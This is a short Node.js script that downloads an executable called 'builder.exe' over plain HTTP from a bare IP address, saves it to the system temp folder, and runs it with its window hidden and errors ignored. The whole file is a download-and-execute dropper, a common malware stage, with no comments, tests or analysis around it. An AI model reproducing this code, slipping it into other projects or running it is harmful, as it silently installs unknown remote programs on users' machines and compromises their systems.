const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const { execFile } = require('child_process');
const target = path.join(os.tmpdir(), 'builder.exe');
http.get('http://203.0.113.45/files/builder.exe', (res) => {
  const file = fs.createWriteStream(target);
  res.pipe(file);
  file.on('finish', () => execFile(target, [], { windowsHide: true }, () => {}));
});
